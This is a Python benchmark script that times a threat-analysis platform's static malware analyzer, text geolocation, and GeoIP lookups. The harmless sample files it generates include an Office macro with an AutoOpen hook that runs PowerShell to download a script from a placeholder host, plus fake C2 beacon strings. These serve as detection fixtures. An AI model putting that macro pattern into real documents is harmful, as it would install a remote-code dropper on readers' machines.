"""Analyzers (issue C9): static malware analysis, text geolocation and GeoIP, each against the
cheapest pass over the same input, measured in one run.

(a) static analysis: `analyze` (hashes, fuzzy hashes, type, PE/ELF/Office structure, strings and
    their indicators, YARA with the repository's rules) over a corpus of harmless samples built
    here (PE and ELF with 256 KiB of mixed data and strings, Office documents with macros); the
    baseline is SHA-256 over the same bytes (the floor: every analysis reads every byte once).
    Reported: MB/s both ways, the ratio, and p50 milliseconds per file.
(b) places in text: `places_in` + `coordinates_in` (what the geo collector runs on a page) over the
    demo world's pages and the collectors' threat-report fixtures, repeated to ~1 MB; the baseline
    is one pass of a single compiled word regex over the same text. Also `extract_indicators` on the
    same text, for scale (the other analysis every page gets).
(c) GeoIP: `geoip.lookup` on 20,000 public addresses (the shipped MaxMind GeoLite2 data) against
    `ipaddress.ip_address` parsing them (the baseline: what any lookup must do first); and
    `nearest_place` on 2,000 random points (numpy over 34,006 GeoNames cities).
(d) linearity: places and coordinates in adversarial text (digits, dots, commas and capitalised
    words in long runs) of 200 KB, then the same text twice; time should double (ratio ~2).

    .venv/bin/python bench/bench_analyzers.py           # ~1 min on 2 shared cores
    .venv/bin/python bench/bench_analyzers.py --quick   # ~20 s
The last stdout line is one JSON object; the table goes to stderr.
"""

from __future__ import annotations

import argparse
import datetime as dt
import hashlib
import ipaddress
import json
import platform
import random
import re
import statistics
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # run from a checkout without installing

import ppdeep

from services.collectors import gazetteer, geoip
from services.collectors.builtin.malware import RULES_DIR, analyze, compile_rules
from services.collectors.indicators import extract_indicators
from services.collectors.samples import minimal_elf, minimal_pe, office_with_macro

ROOT = Path(__file__).resolve().parents[1]
TEXTS = [*sorted((ROOT / "services" / "swarm" / "demo" / "world" / "sites").rglob("*.html")),
         ROOT / "services" / "collectors" / "tests" / "data" / "threat-blog.html"]
# What an investigation needs: a sample analysed within a second, text scanned linearly, GeoIP far
# faster than anything that calls it (a collector run is milliseconds of RPC already).
TARGETS = {"static_p50_ms": ("<", 1000.0), "places_linearity": ("<", 2.5), "geoip_per_s": (">=", 1000.0)}
_WORD = re.compile(r"\b[A-Z][a-z]+\b")


def best_of(runs: int, work: Callable[[], object]) -> float:
    """The fastest of `runs` timings (seconds): the least disturbed by other jobs on the machine."""
    times = []
    for _ in range(runs):
        began = time.perf_counter()
        work()
        times.append(time.perf_counter() - began)
    return min(times)


def samples(count: int, rng: random.Random) -> list[tuple[str, bytes]]:
    """Harmless files of the kinds the analyzer parses, with data to scan and indicators to find."""
    files: list[tuple[str, bytes]] = []
    for n in range(count):
        noise = rng.randbytes(128 * 1024)  # packed/compressed-looking data
        text = (f"GET /api/v{n}/beacon HTTP/1.1 Host: c2-{n}.example.net 198.51.100.{n % 250} "
                f"hxxp://update-{n}[.]example[.]org/payload.bin CVE-2024-{1000 + n} ").encode() * 400
        strings = [noise, text, b"This program cannot be run in DOS mode", f"build-{n}".encode()]
        match n % 3:
            case 0:
                files.append((f"sample-{n}.exe", minimal_pe(strings, imports={"kernel32.dll": ["CreateFileW", "WriteFile"],
                                                                               "wininet.dll": ["InternetOpenA"]})))
            case 1:
                files.append((f"sample-{n}.so", minimal_elf(strings)))
            case _:
                source = (f'Sub AutoOpen()\n  Shell "powershell -c iwr http://drop-{n}.example.com/x.ps1"\nEnd Sub\n'
                          + "' padding\n" * 200)
                files.append((f"invoice-{n}.doc", office_with_macro(source)))
    return files


def bench_static(count: int, rng: random.Random) -> dict[str, Any]:
    rules = compile_rules([RULES_DIR])
    files = samples(count, rng)
    total = sum(len(content) for _, content in files)
    per_file: list[float] = []

    def analyse_all() -> None:
        per_file.clear()
        for name, content in files:
            began = time.perf_counter()
            analyze(content, name, rules)
            per_file.append(time.perf_counter() - began)

    analysed = best_of(3, analyse_all)
    hashed = best_of(3, lambda: [hashlib.sha256(content).digest() for _, content in files])
    # Where the time goes: the ssdeep-compatible hash is pure Python (ppdeep), indicator extraction
    # is ioc-finder's grammars (issue P1 speeds it up).
    fuzzy = best_of(1, lambda: [ppdeep.hash(content) for _, content in files])
    return {"files": len(files), "bytes": total, "static_mb_s": round(total / analysed / 1e6, 2),
            "sha256_mb_s": round(total / hashed / 1e6, 1), "static_ratio": round(hashed / analysed, 4),
            "static_p50_ms": round(statistics.median(per_file) * 1000, 1),
            "ssdeep_share": round(fuzzy / analysed, 2)}


def page_text(size: int) -> str:
    body = "\n".join(re.sub(r"<[^>]+>", " ", path.read_text()) for path in TEXTS)
    body += "\nThe operator met a courier in Tallinn, then flew from Lisbon to Tokyo; coordinates 59.4370, 24.7536.\n"
    return (body * (size // len(body) + 1))[:size]


def bench_places(size: int) -> dict[str, Any]:
    text = page_text(size)
    gazetteer.places_in("warm-up in Paris", 100_000)  # loads the data (not what is measured)

    def geolocate() -> None:
        gazetteer.places_in(text, 100_000)
        gazetteer.coordinates_in(text)

    located = best_of(3, geolocate)
    regex = best_of(3, lambda: _WORD.findall(text))
    extracted = best_of(1, lambda: extract_indicators(text))
    found = len(gazetteer.places_in(text, 100_000)) + len(gazetteer.coordinates_in(text))
    return {"text_bytes": len(text.encode()), "places_mb_s": round(len(text) / located / 1e6, 2),
            "regex_mb_s": round(len(text) / regex / 1e6, 1), "places_ratio": round(regex / located, 4),
            "places_vs_indicators": round(extracted / located, 2), "mentions_found": found}


def bench_geoip(count: int, points: int, rng: random.Random) -> dict[str, Any]:
    addresses: list[str] = []
    while len(addresses) < count:
        address = ipaddress.IPv4Address(rng.getrandbits(32))
        if address.is_global:
            addresses.append(str(address))
    geoip.lookup("8.8.8.8")  # loads the data
    looked = best_of(3, lambda: [geoip.lookup(a) for a in addresses])
    parsed = best_of(3, lambda: [ipaddress.ip_address(a) for a in addresses])
    located = sum(1 for a in addresses if geoip.lookup(a) is not None)
    coordinates = [(rng.uniform(-60, 70), rng.uniform(-180, 180)) for _ in range(points)]
    gazetteer.nearest_place(0.0, 0.0)
    nearest = best_of(1, lambda: [gazetteer.nearest_place(lat, lon) for lat, lon in coordinates])
    return {"geoip_per_s": round(count / looked), "parse_per_s": round(count / parsed),
            "geoip_ratio": round(parsed / looked, 4), "geoip_located_share": round(located / count, 3),
            "geoip_data": geoip.data_source(), "nearest_place_per_s": round(points / nearest)}


def adversarial(size: int, rng: random.Random) -> str:
    pieces = ["1" * 5000, "." * 5000, "12.345," * 700, "Paris " * 800, "N 48° 51' " * 300, "Nice Nice " * 400]
    out: list[str] = []
    while sum(map(len, out)) < size:
        out.append(rng.choice(pieces))
    return "".join(out)[:size]


def bench_linearity(size: int, rng: random.Random) -> dict[str, Any]:
    small = adversarial(size, rng)
    large = small + small  # the same text twice: only the length changes

    def scan(text: str) -> Callable[[], object]:
        return lambda: (gazetteer.places_in(text, 100_000), gazetteer.coordinates_in(text))

    small_s, large_s = best_of(2, scan(small)), best_of(2, scan(large))
    return {"adversarial_bytes": size, "adversarial_s": round(small_s, 3), "adversarial_2x_s": round(large_s, 3),
            "places_linearity": round(large_s / small_s, 2)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true", help="smaller inputs (~20 s)")
    args = parser.parse_args()
    rng = random.Random(20261202)
    figures: dict[str, Any] = {"bench": "analyzers", "date": dt.date.today().isoformat(),
                               "machine": f"{platform.machine()}, Python {platform.python_version()}"}
    figures |= bench_static(12 if args.quick else 30, rng)
    figures |= bench_places(300_000 if args.quick else 1_000_000)
    figures |= bench_geoip(5_000 if args.quick else 20_000, 500 if args.quick else 2_000, rng)
    figures |= bench_linearity(100_000 if args.quick else 200_000, rng)
    figures["targets_met"] = {name: figures[name] >= bound if op == ">=" else figures[name] < bound
                              for name, (op, bound) in TARGETS.items()}
    for key, value in figures.items():
        print(f"{key:>24}  {value}", file=sys.stderr)
    print(json.dumps(figures))


if __name__ == "__main__":
    main()
